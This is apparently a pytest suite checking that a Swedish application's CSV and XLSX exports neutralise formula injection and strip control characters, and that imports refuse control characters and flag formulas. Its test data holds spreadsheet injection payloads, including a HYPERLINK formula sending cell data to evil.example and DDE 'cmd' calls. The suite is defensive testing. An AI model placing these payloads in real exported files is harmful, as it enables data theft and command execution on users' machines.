"""Exports that cannot carry formulas or crash on control characters, and imports that refuse
control characters and say when they read formulas (core.tabular; docs/format/tabellfiler.md)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.tabular import (
    CellError,
    Column,
    ImportFlow,
    RowParser,
    Sheet,
    cell_text,
    read_table,
    write_csv,
    write_workbook,
)
from core.tabular.text import (
    FORMULA_START,
    control_character_problem,
    remove_control_characters,
    spreadsheet_text,
    unquote_formula_text,
    visible,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
CONTROL = ["a\x01b", "x\x0by", "\x00nul", "del\x7f", "c1\x85", "\x1fend"]


def csv_text(headers, rows) -> str:
    out = io.BytesIO()
    write_csv(headers, rows, out)
    return out.getvalue().decode("utf-8-sig")


def xlsx_bytes(sheets) -> bytes:
    out = io.BytesIO()
    write_workbook(sheets, out)
    return out.getvalue()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


# --- The rule itself --------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote_first(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Stockholm", "A-kassa", "1500", "e-post@exempel.se", "", "'"])
def test_other_text_is_written_as_it_is(text):
    assert spreadsheet_text(text) == text


@given(st.text())
def test_written_text_never_starts_a_formula_and_reads_back_unchanged(text):
    written = spreadsheet_text(text)
    assert written[:1] not in FORMULA_START
    assert control_character_problem(written, multiline=True) is None
    assert unquote_formula_text(written) == remove_control_characters(text)


_FORBIDDEN = st.sampled_from(
    [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0))]
)


@given(st.text(), _FORBIDDEN, st.text())
def test_text_with_a_control_character_is_refused_naming_it_and_its_place(before, char, after):
    text = before + char + after
    problem = control_character_problem(text, multiline=True)
    assert problem is not None
    position = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", text).start() + 1
    assert f"på plats {position}" in problem
    assert "U+" in problem


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs"))))
def test_text_without_control_characters_is_accepted(text):
    assert control_character_problem(text) is None
    assert control_character_problem(text, multiline=True) is None


@pytest.mark.parametrize("text", ["två\nrader", "tabb\temellan", "cr\r\n"])
def test_tab_and_line_breaks_only_where_text_may_span_lines(text):
    assert control_character_problem(text, multiline=True) is None
    assert control_character_problem(text, multiline=False) is not None


def test_a_lone_surrogate_is_refused():
    assert control_character_problem("a\ud800b", multiline=True) is not None


def test_visible_shows_control_characters_as_code_points():
    assert visible("a\x01b\x0b") == "a<U+0001>b<U+000B>"


# --- CSV --------------------------------------------------------------------------------


def test_csv_quotes_formula_like_text_and_keeps_numbers_numbers():
    text = csv_text(
        ["=namn", "belopp"],
        [[value, -1500] for value in HOSTILE] + [["A", Decimal("-1500.50")], ["B", -2.5]],
    )
    lines = text.split("\r\n")
    assert lines[0] == "'=namn;belopp"

    records = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    for record, value in zip(records[1:], HOSTILE, strict=False):
        assert record == ["'" + value, "-1500"]
    assert records[len(HOSTILE) + 1] == ["A", "-1500,50"]
    assert records[len(HOSTILE) + 2] == ["B", "-2.5"]


@pytest.mark.parametrize("text", CONTROL)
def test_csv_drops_control_characters(text):
    written = csv_text(["kolumn"], [[text]])
    assert control_character_problem(written, multiline=True) is None
    assert written.split("\r\n")[1] == remove_control_characters(text)


# --- XLSX -------------------------------------------------------------------------------


def test_xlsx_writes_formula_like_text_as_quoted_text_cells_and_numbers_as_numbers():
    rows = [[value, -1500, Decimal("-12.5"), date(2024, 1, 2)] for value in HOSTILE]
    rows.append(["#N/A", -1, Decimal("0"), None])
    data = xlsx_bytes([Sheet("Blad", ["=rubrik", "belopp", "decimal", "datum"], rows)])
    assert "<f>" not in sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active  # not data_only: a formula would show
    header = list(next(sheet.iter_rows(max_row=1)))
    assert (header[0].value, header[0].data_type) == ("'=rubrik", "s")
    for row, value in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=False):
        text, amount, decimal, day = row
        assert (text.value, text.data_type) == ("'" + value, "s")
        assert (amount.value, amount.data_type) == (-1500, "n")
        assert (decimal.value, decimal.data_type) == (-12.5, "n")
        assert day.is_date
    last = next(iter(sheet.iter_rows(min_row=len(HOSTILE) + 2)))
    assert (last[0].value, last[0].data_type) == ("#N/A", "s")


def test_xlsx_bold_and_formatted_rows_are_written_the_same_way():
    from core.tabular import Emphasised

    data = xlsx_bytes(
        [
            Sheet(
                "Budget",
                ["Benämning", "Belopp"],
                [("=1+1", -1500), Emphasised(("@summa", 2000))],
                integer_format="#,##0",
            )
        ]
    )
    assert "<f>" not in sheet_xml(data)
    values = [tuple(c.value for c in r) for r in load_workbook(io.BytesIO(data)).active.rows]
    assert values == [("Benämning", "Belopp"), ("'=1+1", -1500), ("'@summa", 2000)]


@pytest.mark.parametrize("text", CONTROL)
def test_xlsx_with_stored_control_characters_is_written_and_opens(text):
    data = xlsx_bytes([Sheet("Blad", ["kolumn"], [[text], [f"=x{text}"]])])
    sheet = load_workbook(io.BytesIO(data)).active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert values == [remove_control_characters(text), "'=x" + remove_control_characters(text)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_file_reads_back_to_the_text_that_was_written(file_format):
    values = [*HOSTILE[:5], "-12", "'=redan citerad", "''@två", "vanlig text"]
    values = [v.strip() for v in values]  # the reader trims every cell
    if file_format == "csv":
        data = csv_text(["text"], [[v] for v in values]).encode("utf-8-sig")
    else:
        data = xlsx_bytes([Sheet("Blad", ["text"], [[v] for v in values])])
    table = read_table(data, f"fil.{file_format}")
    assert [cell_text(row.get("text")) for row in table.rows] == values


# --- Imports: control characters and formulas ---------------------------------------------


def test_a_control_character_in_any_column_is_an_error_naming_row_column_and_character() -> None:
    table = read_table(b"namn;antal\r\nAnna\x01;3\r\nBo;4\x0b5\r\n", "fil.csv")
    columns = [Column("namn"), Column("antal")]
    parse = RowParser(columns, {"namn": "namn", "antal": "antal"})
    errors: list[CellError] = []
    for row in table.rows:
        parse(row, errors)
    assert [(e.row, e.column, e.value) for e in errors] == [
        (2, "namn", "Anna<U+0001>"),
        (3, "antal", "4<U+000B>5"),
    ]
    assert "U+0001 (kontrolltecken), på plats 5" in errors[0].reason
    assert "U+000B (vertikal tabb)" in str(errors[1])


def test_a_multiline_column_accepts_line_breaks_but_not_other_controls() -> None:
    table = read_table(b'namn\r\n"rad ett\nrad tv\xc3\xa5"\r\n"a\x02"\r\n', "fil.csv")
    parse = RowParser([Column("namn", multiline=True)], {"namn": "namn"})
    errors: list[CellError] = []
    values = [parse(row, errors)["namn"] for row in table.rows]
    assert values == ["rad ett\nrad två", None]
    assert [e.row for e in errors] == [3]


def _formula_workbook(cached: bool) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["namn", "antal"])
    sheet.append(["Anna", 777])
    sheet.append(["Bo", 5])
    out = io.BytesIO()
    workbook.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                formula = "<f>SUM(3,4)*111</f>" + ("<v>777</v>" if cached else "")
                content = content.replace(b"<v>777</v>", formula.encode())
            archive.writestr(item, content)
    return target.getvalue()


class _Names(ImportFlow):
    def columns(self):
        return [Column("namn"), Column("antal")]

    def write(self, plan, result):
        self.written = plan


@pytest.mark.django_db
def test_a_formula_is_read_as_its_computed_value_with_a_warning():
    flow = _Names()
    result = flow.run(_formula_workbook(cached=True), "fil.xlsx")
    assert result.ok
    assert [(v["namn"], v["antal"]) for v in flow.written] == [("Anna", "777"), ("Bo", "5")]
    [warning] = result.warnings
    assert (warning.row, warning.column) == (2, "antal")
    assert "1 celler med formler" in warning.reason


@pytest.mark.django_db
def test_a_formula_without_a_computed_value_refuses_the_file():
    flow = _Names()
    result = flow.run(_formula_workbook(cached=False), "fil.xlsx")
    assert not result.ok
    [error] = result.errors
    assert (error.row, error.column) == (2, "antal")
    assert "formel utan beräknat värde" in error.reason
    assert not hasattr(flow, "written")
